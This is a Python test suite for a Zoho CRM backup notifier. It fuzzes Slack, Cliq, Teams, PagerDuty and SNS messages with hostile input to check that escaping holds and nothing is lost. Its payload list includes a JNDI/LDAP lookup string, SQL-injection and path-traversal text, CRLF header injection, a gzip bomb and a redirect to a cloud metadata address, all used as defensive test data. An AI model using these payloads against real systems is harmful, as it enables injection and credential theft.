"""Whatever Zoho and the channels answer: nothing is interpreted, nothing breaks a limit, nothing is lost.

One list of nasty texts and one judge of what each channel accepted: first through the pure core, then the whole way.
"""

import gzip
import json
import re
from collections.abc import Callable, Iterator, Sequence
from contextlib import closing, suppress
from datetime import UTC, timedelta
from typing import Any
from weakref import WeakKeyDictionary

import pytest
from botocore.exceptions import ClientError
from dateutil import tz
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st

from handler import causes
from handler.channels import CHANNELS
from handler.errors import CheckFailed, UnreadableError
from handler.history import TEXT_LIMIT, classify, clean, parse_row
from handler.memory import Memory
from handler.message import Recipient
from handler.outbox import Notice
from handler.rules import NOTIFIABLE
from sandbox.channels import FAKES, Accepted, Mail
from sandbox.readers import Readers
from sandbox.server import Fault, Response
from sandbox.watch import EVERYTHING, START, Raw, Watch
from sandbox.zoho import row
from tests.item import ITEM_LIMIT, item_size
from tests.world import TopicInMemory, World
from tests.world import world as open_world

MARK = "zqx"
"""In every text that comes from Zoho in the first properties below."""
NASTY = (
    "<!channel> <!here> <@U12345678> <!subteam^S1|x> <https://evil.example|click> @here @channel #general",
    "*b* _i_ ~s~ `c` ```x``` > quote **b** # h",
    "[x](https://evil.example) https://evil.example/?a=b mailto:all@example.com",
    "{@all} {@participants} {{DATE(2026-01-01T00:00:00Z, SHORT)}} ${jndi:ldap://evil.example} %s {0} {org}",
    "&lt;!everyone&gt; &amp; & < > {date} ^ | :tada:",
    "\u202egnp.exe\u202c\u2066\u200f\u200b\ufeff",
    "\ud800 \udfff\udc00 lone",
    "nul\x00 bell\x07 esc\x1b[31m",
    "Bcc: all@example.com\r\nSubject: owned\r\n\r\n",
    "line\u2028paragraph\u2029next\x85feed\x0b\x0c",
    "x" * 10_000,
    "&" * 10_000,
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿" * 200,
    "\\*\\_\\` \\",
    "'; DROP TABLE memory; -- ../../etc/passwd",
)
TIMES = ("0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00", "2026-02-30T00:00:00Z", "2026-03-02", "1e9")
CRM = "https://crm.zoho.com"

# --- the judge --------------------------------------------------------------------------------------------------------

UNREADABLE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f\x85\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff\ud800-\udfff]"
)
MRKDWN = re.compile(
    r"\*[A-Za-z'() ]+\*|"  # a label
    r"<!date\^\d+\^\{date_short_pretty\} \{time\}\|\d\d \w{3} \d{4} \d\d:\d\d UTC>|"
    rf"(\*What to do:\* [^<>]*)?(<{re.escape(CRM)}\|Open Zoho CRM>)?(: [^<>]*)?"
)


def texts(value: Any) -> Iterator[str]:
    """Yield every text in a payload."""
    if isinstance(value, str):
        yield value
    for inner in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from texts(inner)


def objects(value: Any, kind: str) -> Iterator[Raw]:
    """Yield every object of this type in a payload."""
    if isinstance(value, dict) and value.get("type") == kind:
        yield value
    for inner in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from objects(inner, kind)


def assert_no_mail_header_or_filter_is_fooled(mail: Mail) -> None:
    """https://docs.aws.amazon.com/sns/latest/api/API_Publish.html."""
    assert mail.subject
    assert re.fullmatch(r"[\x21-\x7e][\x20-\x7e]{0,98}", mail.subject)
    first, _, rest = mail.body.partition("\n")
    assert first.strip()
    assert rest
    assert MARK not in mail.subject + first
    assert "evil" not in mail.subject + first
    size = len(mail.body.encode()) + len(json.dumps(mail.attributes).encode())
    assert size < 256 * 1024
    for value in mail.attributes.values():
        assert value
        assert all(isinstance(one, str) for one in ([value] if isinstance(value, str) else value))


def assert_slack_interprets_nothing(payload: Raw) -> None:
    """Formatted text is ours alone, and what Slack could take for a mention or a link is escaped."""
    for words in objects(payload, "mrkdwn"):
        assert words["verbatim"]
        assert MARK not in words["text"]
        assert MRKDWN.fullmatch(words["text"]), words["text"]
    if "blocks" in payload:
        assert MARK not in payload["text"]
    else:
        assert (payload["mrkdwn"], payload["parse"]) == (False, "none")
    assert not re.search(r"[<>]|&(?!amp;|lt;|gt;)", payload["text"])


def assert_cliq_interprets_nothing(payload: Raw) -> None:
    """No character that Markdown or a mention needs, and no address but those of ours."""
    for words in texts({key: value for key, value in payload.items() if key != "buttons"}):
        assert not set("*~`[]{}@") & set(words), words
        assert not re.search(r"(?<![A-Za-z0-9])_|_(?![A-Za-z0-9-])", re.sub("Reference: .*", "", words)), words
        assert not re.search(r"://(?!crm\.zoho\.com|www\.zoho\.com|api-console\.zoho)", words), words
    for button in payload.get("buttons", ()):
        assert button["action"]["data"] == {"web": CRM}


def assert_teams_interprets_nothing(payload: Raw) -> None:
    """What Markdown or a template knows stands behind a backslash, except around our own label."""
    blocks = [block["text"] for block in objects(payload, "TextBlock")]
    for words in (*blocks, *(fact["value"] for facts in objects(payload, "FactSet") for fact in facts["facts"])):
        bare = re.sub(r"\\[\\`*_{}\[\]()#+\-.!|<>~]", "", words.removeprefix("**What to do:** "))
        assert not set("\\`*_{}[]<>~") & set(bare), words
        assert "://evil" not in words
    assert {action["url"] for action in objects(payload, "Action.OpenUrl")} <= {CRM}
    fallback = payload["attachments"][0]["content"]["fallbackText"]
    assert MARK not in fallback


def assert_pagerduty_links_nowhere(payload: Raw) -> None:
    """It formats nothing; its summary is ours, and so is every link."""
    assert MARK not in payload.get("payload", {}).get("summary", "")
    for link in payload.get("links", ()):
        assert link["href"] == CRM


JUDGES: dict[str, Callable[[Raw], None]] = {
    "slack": assert_slack_interprets_nothing,
    "cliq": assert_cliq_interprets_nothing,
    "teams": assert_teams_interprets_nothing,
    "pagerduty": assert_pagerduty_links_nowhere,
}


def assert_harmless(channel: str, messages: Sequence[Mail | Accepted]) -> None:
    """What a channel accepted, the fakes enforcing its limits, is readable and interpreted by nobody."""
    for message in messages:
        if isinstance(message, Mail):
            assert_no_mail_header_or_filter_is_fooled(message)
            said: list[str] = [message.subject or "", message.body, *texts(message.attributes)]
        else:
            JUDGES[channel](message.payload)
            said = [*texts(message.payload), message.text]
        for words in said:
            assert not UNREADABLE.search(words), ascii(words)


def test_every_channel_has_a_judge() -> None:
    """Mails have their own."""
    assert JUDGES.keys() == {channel.name for channel in CHANNELS} - {"sns"}


# --- the pure core ----------------------------------------------------------------------------------------------------

TEXTS = st.sampled_from(NASTY)
MARKED = st.tuples(TEXTS | st.text(st.characters(codec=None)), TEXTS).map(lambda two: MARK + MARK.join(two))
FROM_ZOHO = st.none() | MARKED
HOSTILE_ROWS = st.fixed_dictionaries(
    {
        "id": FROM_ZOHO,
        "log_time": FROM_ZOHO | st.sampled_from(TIMES),
        "state": FROM_ZOHO | st.sampled_from(["completed", "failure", "payment_failed"]),
        "action": FROM_ZOHO | st.sampled_from(["stopped", "scheduled", "purchased", "initiated"]),
        "repeat_type": FROM_ZOHO,
        "done_by": FROM_ZOHO | FROM_ZOHO.map(lambda name: {"name": name}),
        "file_name": FROM_ZOHO,
        "count": FROM_ZOHO | st.integers(),
    }
)
CALM = list(HealthCheck)
EXAMPLES = 12
PHASES = (Phase.explicit, Phase.generate)
"""An example takes a while, and each is small."""


@pytest.fixture(scope="module")
def readers() -> Iterator[Readers]:
    """Give a reader of every channel."""
    with closing(Readers()) as made:
        yield made


def recipient(name: str, zone: str = "UTC") -> Recipient:
    """Return the recipient of an organisation with this display name."""
    return Recipient("acme", clean(name) or "acme", tz.gettz(zone) or UTC, CRM, START, lost=2)


def read_everywhere(readers: Readers, notices: Sequence[Notice], to: Recipient) -> dict[str, list[Mail | Accepted]]:
    """Return what arrives on each channel, all of it harmless."""
    arrived: dict[str, list[Mail | Accepted]] = {}
    for channel in CHANNELS:
        arrived[channel.name] = [*readers.read(channel.name, notices, to)]
        assert_harmless(channel.name, arrived[channel.name])
    return arrived


def shown(message: Mail | Accepted) -> str:
    """Return every text of a message."""
    return message.body if isinstance(message, Mail) else "\n".join(texts(message.payload))


@settings(max_examples=EXAMPLES, suppress_health_check=CALM, phases=PHASES)
@given(
    rows=st.lists(HOSTILE_ROWS, min_size=1, max_size=6),
    name=(TEXTS | st.text(st.characters(codec=None))).map(lambda name: name.replace("evil", "our")),
    detail=MARKED,
    zone=st.sampled_from(["UTC", "America/New_York", "Pacific/Kiritimati"]),
)
def test_hostile_texts_are_taken_and_never_interpreted(
    readers: Readers, rows: list[Raw], name: str, detail: str, zone: str
) -> None:
    """In every field of a row, in what Zoho answers instead of a history, and in the display name."""
    watch = Watch(notify_on=EVERYTHING, memory=Memory("acme"))
    watch.check_at(START - timedelta(days=1))
    watch.rows = rows
    watch.check_at(START)
    watch.check_at(START + timedelta(days=2))
    watch.check_after(UnreadableError(causes.NO_PERMISSION, clean(detail) or ""), days=1)
    to = recipient(name, zone)
    for notices in (Watch(rows, memory=Memory("acme")).check(), watch.notices, watch.notices * 3):
        read_everywhere(readers, notices, to)
    for notice in watch.notices:
        for channel, messages in read_everywhere(readers, [notice], to).items():
            assert bool(messages) == (channel in notice.pending_for)
            if notice.row and notice.row.id and channel in {"sns", "slack"}:
                assert notice.row.id in shown(messages[0])


def test_the_longest_messages_stay_within_limits(readers: Readers) -> None:
    """Ids, names and states of the longest text, in lists of a hundred: the fakes and SNS take all of it."""
    wide = "🏴" * (TEXT_LIMIT - 5)
    watch = Watch(memory=Memory("acme"))
    watch.check_at(START - timedelta(days=1))
    watch.rows = [row(START, id=f"{wide}{n}", state=wide, done_by=wide, file_name=wide) for n in range(120)]
    arrived: set[str] = set()
    watch.now = START
    while notices := watch.check():
        for batch in (notices[:1], notices[:10], notices[:100]):
            mails = read_everywhere(readers, batch, recipient(wide))["sns"]
            size = sum(len(json.dumps([vars(mail)], ensure_ascii=False).encode()) for mail in mails)
            assert size < 256 * 1024 or len(batch) > 10
        arrived |= {notice.row.id for notice in notices if notice.row}
    assert arrived == {raw["id"] for raw in watch.rows}


@pytest.mark.parametrize(
    ("name", "start"),
    [
        ("Acme Ltd", "[Acme Ltd] Backup failed"),
        ("Süß & Söhne", "[Su & Sohne] Backup failed"),
        ("日本", "[acme] Backup failed"),
        ("A" * 100, f"[{'A' * 39}...] Backup failed"),
        ("Line\r\nBcc: x@example.com", "[Line Bcc: x@example.com] Backup failed"),
        ("", "[acme] Backup failed"),
    ],
    ids=ascii,
)
def test_a_subject_is_ascii_and_always_has_room_for_its_title(readers: Readers, name: str, start: str) -> None:
    """Whatever the organisation is called."""
    watch = Watch(memory=Memory("acme"))
    watch.check()
    watch.log(state="failure")
    (mail,) = read_everywhere(readers, watch.check(), recipient(name))["sns"]
    assert isinstance(mail, Mail)
    assert mail.subject == start


# --- the whole way ----------------------------------------------------------------------------------------------------

JSON: st.SearchStrategy[Any] = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | TEXTS | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXTS | st.text(max_size=5), inner),
    max_leaves=6,
)
ROWS = st.fixed_dictionaries(
    {},
    optional={
        "id": TEXTS | JSON,
        "log_time": st.sampled_from(TIMES) | JSON,
        "state": st.sampled_from(("completed", "FAILURE")) | TEXTS | JSON,
        "action": st.sampled_from(("stopped", "Initiated")) | TEXTS | JSON,
        "repeat_type": TEXTS | JSON,
        "done_by": st.fixed_dictionaries({"name": TEXTS | JSON}) | JSON,
        "file_name": TEXTS | JSON,
        "count": JSON,
        "unknown": JSON,
    },
)
CHATS = ("slack", "cliq", "teams")
BASELINES: WeakKeyDictionary[World, Raw] = WeakKeyDictionary()
"""A world's item after its first check."""


def row_of(text: str) -> Raw:
    """Return a row that holds this text wherever a person's or Zoho's words can stand."""
    return {"state": text, "id": text, "repeat_type": text, "file_name": text, "done_by": {"name": text}}


@pytest.fixture(scope="module")
def opened() -> Iterator[World]:
    """Give a world with every channel there is."""
    with open_world(channels=FAKES, NOTIFY_ON=",".join(sorted(NOTIFIABLE))) as made:
        yield made


@pytest.fixture
def watched(opened: World) -> World:
    """Give that world as on its first day, its baseline sent."""
    begin(opened)
    return opened


def begin(world: World) -> None:
    """Forget everything; what is left is the baseline of an empty history, checked once in a world's life."""
    world.zoho.standing.clear()
    world.zoho.requests.clear()
    world.organisation.rows = []
    world.organisation.issued.clear()
    for fake in world.fakes.values():
        fake.standing.clear()
        fake.reset()
    world.around = lambda name, call: call()
    world.cold()
    world.clock.now = START
    if world not in BASELINES:
        world.check()
        BASELINES[world] = world.table.items["default"]
    world.table.items = {"default": BASELINES[world]}
    forget(world)


def forget(world: World) -> None:
    """Forget what arrived."""
    world.topic.entries.clear()
    for fake in world.fakes.values():
        fake.accepted.clear()


def mails(world: World) -> list[Mail]:
    """Return what the topic took."""
    return [
        Mail(one["Subject"], one["Message"], {n: TopicInMemory.attribute(one, n) for n in one["MessageAttributes"]})
        for one in world.topic.entries
    ]


def assert_all_harmless(world: World) -> None:
    """What every channel took, and what is remembered, can be read and does no harm."""
    assert_harmless("sns", mails(world))
    for name, fake in world.fakes.items():
        assert_harmless(name, fake.accepted)
    assert item_size(world.memory()) < ITEM_LIMIT
    json.dumps(list(world.table.items.values()), ensure_ascii=False).encode()


def recover(world: World) -> None:
    """Let all be well again: nothing is pending, nothing was lost, and only a failed backup goes on."""
    world.zoho.standing.clear()
    for fake in world.fakes.values():
        fake.repair()
        fake.clock = world.clock
    for _ in range(2):
        world.clock.advance(hours=1)
        with suppress(CheckFailed):
            world.check()
    world.clock.advance(hours=1)
    assert world.check()["notices"] == []
    memory = world.memory()
    assert (memory.outbox, memory.incidents.keys() - {"failing"}, memory.dead_letters.total) == ((), set(), 0)
    assert_all_harmless(world)


def assert_sent_once(world: World, rows: Sequence[Raw]) -> None:
    """Every row that is worth a notice has arrived once, on every channel for everything."""
    parsed = [parse_row(json.loads(json.dumps(raw))) for raw in rows]
    ids = {f"default-{one.key}" for one in parsed if classify(one) != "started"}
    sent = [mail.attributes["notice_id"] for mail in mails(world)]
    assert sorted(one for one in sent if one in ids) == sorted(ids)
    for name in CHATS:
        read = "\n".join(message.text for message in world.fakes[name].accepted)
        assert {one: read.count(one) for one in ids} == dict.fromkeys(ids, 1), name


@settings(max_examples=EXAMPLES, suppress_health_check=CALM, phases=PHASES)
@given(rows=st.lists(ROWS, min_size=1, max_size=3))
@example(rows=[row_of(text) for text in NASTY[:8]])
@example(rows=[row_of(text) for text in NASTY[8:]])
@example(rows=[row_of(text) for text in NASTY])  # more than ten: a list
def test_whatever_the_fields_of_a_row_hold_it_is_sent_once_and_harmless(opened: World, rows: list[Raw]) -> None:
    """Any JSON in any field: every channel takes the message at once, and every row that is worth one is sent."""
    begin(opened)
    opened.organisation.rows = rows
    answer = opened.check()
    assert answer["pending"] == 0
    assert_all_harmless(opened)
    if len(answer["notices"]) <= 10:
        assert_sent_once(opened, rows)
    else:
        assert {answer["delivered"][name] for name in ("sns", *CHATS)} == {len(answer["notices"])}
    opened.cold()
    assert opened.check()["notices"] == []


def test_a_hundred_news_of_the_longest_texts_fit_into_the_item_and_into_few_messages(watched: World) -> None:
    """Counted in characters by chats, in bytes by SNS and DynamoDB: four of them for each of these characters."""
    text = "🏴" * TEXT_LIMIT
    watched.organisation.rows = [{**row_of(text), "id": f"{number:03}{text}"} for number in range(100)]
    for fake in watched.fakes.values():
        fake.break_with(Response(503))
    watched.topic.fail = ClientError({"Error": {"Code": "InternalError"}}, "PublishBatch")
    with pytest.raises(CheckFailed):
        watched.check()
    assert_all_harmless(watched)
    for fake in watched.fakes.values():
        fake.repair()
    watched.topic.fail = None
    for _ in range(4):
        watched.clock.advance(hours=1)
        with suppress(CheckFailed):
            watched.check()
    assert_all_harmless(watched)
    memory = watched.memory()
    assert (memory.outbox, memory.dead_letters.total) == ((), 0)
    for raw in watched.organisation.rows:
        said = parse_row(raw).id
        assert sum(said in mail.body for mail in mails(watched)) == 1
    assert len(watched.fakes["slack"].accepted) <= 6


def bomb(size: int) -> Response:
    """Return an answer that expands to so many bytes of JSON."""
    return Response(200, gzip.compress(b'{"history": "' + b"0" * size + b'"}'), {"Content-Encoding": "gzip"})


def said(body: bytes | str, **headers: str) -> Response:
    """Return a good-looking answer with this body."""
    raw = body if isinstance(body, bytes) else body.encode()
    return Response(200, raw, {"Content-Type": "application/json", **headers})


BODIES = {
    "deep list": said("[" * 200_000),
    "deep object": said('{"history":' * 100_000),
    "ten megabytes": said(b'{"history": ["' + b"x" * 10_000_000 + b'"]}'),
    "bomb": bomb(50_000_000),
    "half a gzip": Response(200, gzip.compress(b"{}" * 1000)[:20], {"Content-Encoding": "gzip"}),
    "not gzip": said("{}", **{"Content-Encoding": "gzip"}),
    "unknown encoding": said("{}", **{"Content-Encoding": "zip"}),
    "huge number": said('{"history": [{"id": ' + "9" * 5_000 + '}], "info": {"more_records": false}}'),
    "lone surrogates": said('{"error": "\\ud800", "code": "\\udfff", "message": "\\ud800"}'),
    "UTF-16": said('{"history": []}'.encode("utf-16")),
    "not UTF-8": said(b'{"error": "\xff\xfe"}'),
    "NUL": said("\x00" * 1_000),
    "twice": said('{"history": [], "info": {"more_records": false}} {}'),
    "endless pages": said('{"history": [], "info": {"more_records": true}}'),
    "token with line breaks": said('{"access_token": "a\\r\\nX-Evil: 1", "expires_in": 3600}'),
    "long token": said(json.dumps({"access_token": "a" * 100_000})),
    "nasty error": said(json.dumps({"error": NASTY[0] * 100, "status": "error", "code": NASTY[0] * 100})),
    "nasty status": Response(418, json.dumps({"code": NASTY[0]}).encode()),
    "nasty header": said("{}", Location="http://169.254.169.254/latest/meta-data"),
    "nasty plan": said(json.dumps({"backup": {"rrule": f"RRULE:FREQ={NASTY[0]}", "scheduled_date": NASTY[8]}})),
    "nasty links": said(json.dumps({"urls": {"data_links": list(NASTY), "expiry_date": TIMES[1]}})),
}
OF_ZOHO = {"endless pages", "token with line breaks", "long token", "nasty plan", "nasty links"}
"""To a channel any JSON is one answer, and "nasty error" is that."""
TOO_LONG = {"ten megabytes", "bomb"}
"""Not read to their end, so nobody says that they are not as documented."""
UNREAD = TOO_LONG | {
    *("deep object", "deep list", "not gzip", "half a gzip", "unknown encoding", "huge number", "not UTF-8", "NUL"),
    *("twice", "nasty header"),
}
"""A 200 counts as an acceptance where its body is empty or says something in JSON: better twice than never."""
KINDS = ("token", "history", "backup", "urls")


def check_once(world: World) -> None:
    """Check; only what a check raises on purpose is raised."""
    with suppress(CheckFailed):
        world.check()


@pytest.mark.parametrize("body", BODIES)
@pytest.mark.parametrize("kind", KINDS)
def test_whatever_zoho_answers_ends_in_a_cause_and_loses_nothing(watched: World, kind: str, body: str) -> None:
    """A check meets such an answer, warm and cold, with news of which it may not know; then all is well again."""
    watched.log(state="completed")
    watched.zoho.standing[kind] = Fault(BODIES[body])
    for _ in range(2):
        watched.cold()
        watched.clock.advance(minutes=10)
        check_once(watched)
        assert_all_harmless(watched)
    if body in TOO_LONG and kind in {"token", "history"}:
        assert watched.memory().incidents["unreadable"].cause == "transient"
    if kind in {"backup", "urls"}:
        assert "unreadable" not in watched.memory().incidents
        assert [mail.attributes["kind"] for mail in mails(watched)] == ["completed"]
    recover(watched)
    assert_sent_once(watched, watched.organisation.rows)


@pytest.mark.parametrize("status", [200, pytest.param(404, marks=pytest.mark.deep)])
@pytest.mark.parametrize("body", sorted(BODIES.keys() - OF_ZOHO))
@pytest.mark.parametrize("channel", FAKES)
def test_whatever_a_channel_answers_its_message_waits_and_the_others_have_it(
    watched: World, channel: str, body: str, status: int
) -> None:
    """With a status that looks like an acceptance, and with one that does not."""
    begin(watched)
    watched.log(state="failure")
    answer = BODIES[body]
    watched.fakes[channel].break_with(Response(status, answer.body, answer.headers))
    check_once(watched)
    assert len(mails(watched)) == 1
    waits = [notice.pending_for for notice in watched.memory().outbox]
    accepts = channel in {"cliq", "teams"} and status == 200 and body not in UNREAD
    assert waits == ([] if accepts else [(channel,)])
    if waits:
        recover(watched)
        assert_sent_once(watched, watched.organisation.rows)


@settings(max_examples=EXAMPLES, suppress_health_check=CALM, phases=PHASES)
@given(answer=JSON, kind=st.sampled_from(KINDS), status=st.sampled_from((200, 200, 400, 401, 500)))
def test_any_json_for_an_answer_is_survived(opened: World, answer: Any, kind: str, status: int) -> None:
    """Of whatever shape, with whatever status."""
    begin(opened)
    opened.log(state="completed")
    opened.zoho.standing[kind] = Fault(Response.json(answer, status))
    opened.cold()
    check_once(opened)
    recover(opened)
    assert_sent_once(opened, opened.organisation.rows)


@settings(max_examples=EXAMPLES, suppress_health_check=CALM, phases=PHASES)
@given(
    text=(
        st.text(st.characters(codec=None), max_size=40)
        | JSON.map(json.dumps)
        | st.dictionaries(
            st.sampled_from(["client_id", "client_secret", "refresh_token", "data_center", "name", "time_zone"])
            | st.sampled_from([setting.key for channel in CHANNELS for setting in channel.settings])
            | st.sampled_from([f"{name}_min_severity" for name in FAKES]),
            TEXTS | JSON,
        ).map(lambda fields: json.dumps({"changed": fields}))
    )
)
def test_whatever_a_secret_holds_ends_in_a_cause_and_loses_nothing(opened: World, text: str) -> None:
    """No JSON, another shape, or any value for any key; nothing of it is said, and it is read again at every check."""
    begin(opened)
    with suppress(ValueError):
        if isinstance(changed := json.loads(text), dict) and "changed" in changed:
            text = json.dumps({**opened.secrets["default"], **changed["changed"]})
    opened.log(state="completed")
    opened.around = lambda name, call: text if name == "get_parameter" else call()
    opened.clock.advance(minutes=10)
    check_once(opened)
    problem = opened.memory().incidents.get("unreadable")
    assert problem is None or problem.cause in causes.CAUSES
    opened.around = lambda name, call: call()
    recover(opened)
    sent = [mail.attributes["notice_id"] for mail in mails(opened)]
    assert sum(one == f"default-{parse_row(opened.organisation.rows[0]).key}" for one in sent) == 1
